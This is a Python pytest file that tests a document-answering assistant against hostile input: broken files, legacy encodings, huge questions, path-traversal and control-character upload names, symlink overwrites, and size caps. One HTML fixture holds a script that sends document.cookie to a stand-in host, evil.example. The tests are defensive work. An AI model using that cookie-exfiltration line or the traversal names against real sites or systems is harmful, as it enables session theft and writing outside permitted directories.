"""Hostile input: broken and odd files, unsafe upload names, size caps, scripts, any question.

Fake embeddings, since ranking does not matter here (an invented word is enough to find a
passage); the answer/decline model is fitted on the real model's cosines, so here the answerer
answers whenever a verified sentence exists (ANSWER_ANY). In tests/integration: the session's
real model for what the tokenizer itself sees (test_hostile_real_model.py), and work that could
hang (a decompression bomb, a huge HTML page), run in a subprocess with a timeout
(test_hostile_extraction.py).
"""

from __future__ import annotations

import contextlib
import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import copy_sources
from fakes import KeywordEmbeddings
from helpers.hostile import HOSTILE_QUESTIONS

from assistant import Answer, Assistant, AssistantError
from assistant.answering.extractive import ExtractiveAnswerer
from assistant.errors import QuestionError, SourceError
from assistant.ingest import sources as source_files

COMMENTARY = "itu-plenipot-2014-impressions.txt"
CWG = "Who can take part in CWG-Internet?"

# A probability threshold of 0: any verified sentence is answered (fake embeddings, see above).
ANSWER_ANY = 0.0

LATIN1 = (
    "Le traité de Quorvex fut signé à Genève par les délégués de Zélande, "
    "après une séance très animée.\n"
)
UTF16 = "The Plimbottle Charter was drafted by the lamplighters of Östervik in 1911.\n"


def check_citations(assistant: Assistant, answer: Answer) -> None:
    for c in answer.citations:
        text = assistant.source_text(c.source)
        assert text is not None and text[c.start : c.end] == c.quote


# -- files that cannot be read, beside files that can ----------------------------------------


@pytest.fixture(scope="module")
def mixed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Assistant, dict[str, str]]]:
    """The commentary beside broken files and text in legacy encodings; and the report."""
    root = tmp_path_factory.mktemp("mixed")
    folder = copy_sources(root / "sources")
    (folder / "random.pdf").write_bytes(os.urandom(8192))
    (folder / "nul.txt").write_bytes(b"Some text\x00with NUL bytes\x00" * 50)
    (folder / "empty.md").write_bytes(b"")
    (folder / "blank.html").write_text("<html><body>  <script>x()</script> </body></html>")
    (folder / "fake.docx").write_bytes(b"PK\x03\x04 not really a zip")
    (folder / "latin1.txt").write_bytes(LATIN1.encode("latin-1"))
    (folder / "utf16.txt").write_bytes(UTF16.encode("utf-16"))  # with a BOM
    assistant = Assistant.open(
        sources=folder,
        index=root / "index",
        embeddings=KeywordEmbeddings(),
        answerer=ExtractiveAnswerer(abstain_below=ANSWER_ANY),
        sync=False,
    )
    report = assistant.reindex()
    yield assistant, dict(report.failed) | {"__added__": ",".join(report.added)}
    assistant.close()


def test_unreadable_files_are_listed_as_failed(mixed: tuple[Assistant, dict[str, str]]) -> None:
    assistant, failed = mixed
    added = failed.pop("__added__").split(",")
    assert sorted(failed) == ["blank.html", "empty.md", "fake.docx", "nul.txt", "random.pdf"]
    assert "binary" in failed["nul.txt"] and "empty" in failed["empty.md"]
    assert all(reason.strip() for reason in failed.values())
    assert sorted(added) == [COMMENTARY, "latin1.txt", "utf16.txt"]
    assert {s.id for s in assistant.sources()} == {COMMENTARY, "latin1.txt", "utf16.txt"}


def test_legacy_encodings_become_answerable(mixed: tuple[Assistant, dict[str, str]]) -> None:
    assistant, _ = mixed
    assert assistant.source_text("latin1.txt") == LATIN1
    assert assistant.source_text("utf16.txt") == UTF16
    answer = assistant.ask("Où fut signé le traité de Quorvex ?")
    assert answer.citations and answer.citations[0].source == "latin1.txt"
    assert "Genève" in answer.citations[0].quote
    answer = assistant.ask("Who drafted the Plimbottle Charter?")
    assert answer.citations and answer.citations[0].source == "utf16.txt"
    assert "Östervik" in answer.citations[0].quote
    check_citations(assistant, answer)


def test_the_commentary_still_answers(
    mixed: tuple[Assistant, dict[str, str]], tmp_path: Path
) -> None:
    # The same answers as over the commentary alone: the bad files changed nothing.
    assistant, _ = mixed
    alone = Assistant.open(
        sources=copy_sources(tmp_path / "sources"),
        index=tmp_path / "index",
        embeddings=KeywordEmbeddings(),
        answerer=ExtractiveAnswerer(abstain_below=ANSWER_ANY),
    )
    try:
        for question in (
            CWG,
            "What happened to India's proposal?",
            "What did the conference decide about counterfeit devices?",
        ):
            answer, expected = assistant.ask(question), alone.ask(question)
            assert (answer.text, answer.citations) == (expected.text, expected.citations)
            assert not answer.abstained
            assert {c.source for c in answer.citations} == {COMMENTARY}
            check_citations(assistant, answer)
    finally:
        alone.close()


# -- questions ----------------------------------------------------------------------------------


@pytest.mark.parametrize("question", ["", " ", "\n\t\r ", "\u3000"])
def test_empty_questions_are_refused(
    mixed: tuple[Assistant, dict[str, str]], question: str
) -> None:
    assistant, _ = mixed
    with pytest.raises(QuestionError) as caught:
        assistant.ask(question)
    assert isinstance(caught.value, AssistantError) and "empty" in str(caught.value)


def test_none_is_not_a_question(mixed: tuple[Assistant, dict[str, str]]) -> None:
    assistant, _ = mixed
    with pytest.raises(TypeError):
        assistant.ask(None)  # type: ignore[arg-type]


def test_a_100000_character_question_is_answered_quickly(
    mixed: tuple[Assistant, dict[str, str]],
) -> None:
    assistant, _ = mixed
    question = (CWG + " ") + " ".join(f"filler{i}" for i in range(20_000))
    question = question[:100_000]
    began = time.perf_counter()
    answer = assistant.ask(question)
    assert time.perf_counter() - began < 10
    assert isinstance(answer, Answer)
    assert answer.notice and "100000" in answer.notice
    check_citations(assistant, answer)


@pytest.mark.parametrize("name", list(HOSTILE_QUESTIONS))
def test_any_question_is_answered_or_refused_quickly(
    mixed: tuple[Assistant, dict[str, str]], name: str
) -> None:
    assistant, _ = mixed
    began = time.perf_counter()
    try:
        answer = assistant.ask(HOSTILE_QUESTIONS[name])
    except AssistantError:
        pass
    else:
        assert isinstance(answer, Answer)
        check_citations(assistant, answer)
    assert time.perf_counter() - began < 5


# -- uploads: names -------------------------------------------------------------------------


@pytest.fixture
def upload(tmp_path: Path) -> Path:
    path = tmp_path / "uploads" / "upload.txt"
    path.parent.mkdir()
    path.write_text("An upload about the Wobblethorp Convention and its nine signatories.\n")
    return path


HOSTILE_NAMES = [
    "../escape.txt",
    "../../../../tmp/escape.txt",
    "/tmp/absolute.txt",
    "C:\\Windows\\system32\\drivers.txt",
    "sub/dir/../../nested.txt",
    "./.env.txt",
    "nul\x00byte.txt",
    "bell\x07and\x1bescape\u202egnp.txt",
    "new\nline.md",
    "x" * 1000 + ".html",
    "ü" * 200 + ".txt",
    "%2e%2e%2fencoded.txt",
    "~/home.txt",
    "CON.txt",
    "trailing-dot.txt.",
    " leading-space.txt",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_upload_names_stay_inside_sources(
    fake_assistant: Assistant, sources_dir: Path, upload: Path, tmp_path: Path, name: str
) -> None:
    before = set(tmp_path.rglob("*"))
    try:
        report = fake_assistant.add_source(upload, name=name)
    except AssistantError:
        report = None  # refusing is fine
    created = set(tmp_path.rglob("*")) - before
    allowed = (sources_dir, tmp_path / "index")
    assert all(any(p.is_relative_to(a) for a in allowed) for p in created), created
    stored = [p for p in created if p.parent == sources_dir]
    assert all(p.name.isprintable() and len(p.name.encode()) <= 255 for p in stored)
    assert not Path("/tmp/escape.txt").exists() and not Path("/tmp/absolute.txt").exists()
    if report is not None:
        (added,) = report.added
        assert (sources_dir / added).is_file()
        assert fake_assistant.retrieve("Wobblethorp Convention", k=1)[0].source == added


def test_add_source_of_a_missing_path(fake_assistant: Assistant, tmp_path: Path) -> None:
    with pytest.raises(SourceError) as caught:
        fake_assistant.add_source(tmp_path / "does-not-exist.pdf")
    assert isinstance(caught.value, AssistantError)
    assert "does-not-exist.pdf" in str(caught.value)


def test_an_upload_does_not_replace_another_source(
    fake_assistant: Assistant, sources_dir: Path, upload: Path
) -> None:
    original = (sources_dir / COMMENTARY).read_bytes()
    with contextlib.suppress(AssistantError):
        fake_assistant.add_source(upload, name=COMMENTARY)
    assert (sources_dir / COMMENTARY).read_bytes() == original
    answer = fake_assistant.ask(CWG)
    assert answer.citations and answer.citations[0].source == COMMENTARY


def test_an_upload_does_not_write_through_a_symlink(
    fake_assistant: Assistant, sources_dir: Path, upload: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("precious\n")
    (sources_dir / "link.txt").symlink_to(outside)
    with contextlib.suppress(AssistantError):
        fake_assistant.add_source(upload, name="link.txt")
    assert outside.read_text() == "precious\n"


# -- uploads: contents ----------------------------------------------------------------------


SCRIPTED_HTML = """<!doctype html>
<html><head><title>The Mumblefrotz Pact</title>
<script>var stolen = "zorkscript"; fetch("https://evil.example/" + document.cookie);</script>
<style>.glorpstyle { color: red }</style></head>
<body>
<script type="module">import "zorkmodule";</script>
<h1>The Mumblefrotz Pact</h1>
<p onclick="zorkhandler()">The Mumblefrotz Pact was agreed by eleven invented river ports.</p>
<noscript>zorknoscript</noscript>
<template><p>zorktemplate</p></template>
<iframe srcdoc="<p>zorkiframe</p>"></iframe>
<p>It covers <b>ferry tolls</b> and <a href="javascript:zorkhref()">lighthouse dues</a>.</p>
</body></html>
"""


def test_html_is_indexed_without_its_scripts(fake_assistant: Assistant, tmp_path: Path) -> None:
    page = tmp_path / "pact.html"
    page.write_text(SCRIPTED_HTML)
    report = fake_assistant.add_source(page)
    assert report.added == ["pact.html"]
    text = fake_assistant.source_text("pact.html")
    assert text is not None
    assert "eleven invented river ports" in text and "lighthouse dues" in text
    for word in (
        "zorkscript",
        "evil.example",
        "glorpstyle",
        "zorkmodule",
        "zorkhandler",
        "zorknoscript",
        "zorktemplate",
        "zorkiframe",
        "zorkhref",
        "<",
        "cookie",
    ):
        assert word not in text, word
    answer = fake_assistant.ask("Who agreed the Mumblefrotz Pact?")
    assert answer.citations and answer.citations[0].source == "pact.html"
    assert all(
        p.source != "pact.html" or "zork" not in p.text
        for p in fake_assistant.retrieve("zorkscript zorkmodule", k=10)
    )


def test_extracted_text_over_the_cap_is_refused(fake_assistant: Assistant, tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    line = "The quick brown fox jumps over the lazy dog near the harbour.\n"
    big.write_text(line * (source_files.MAX_TEXT_CHARS // len(line) + 10))
    report = fake_assistant.add_source(big)
    assert [f for f, _ in report.failed] == ["big.txt"]
    assert "limit" in dict(report.failed)["big.txt"]
    assert report.unchanged == [COMMENTARY]


def test_a_file_over_the_size_cap_is_refused(fake_assistant: Assistant, tmp_path: Path) -> None:
    huge = tmp_path / "huge.md"
    with huge.open("wb") as f:
        f.truncate(source_files.MAX_FILE_BYTES + 1)  # sparse: cheap to make
    report = fake_assistant.add_source(huge)
    assert [f for f, _ in report.failed] == ["huge.md"]
    assert "limit" in dict(report.failed)["huge.md"]
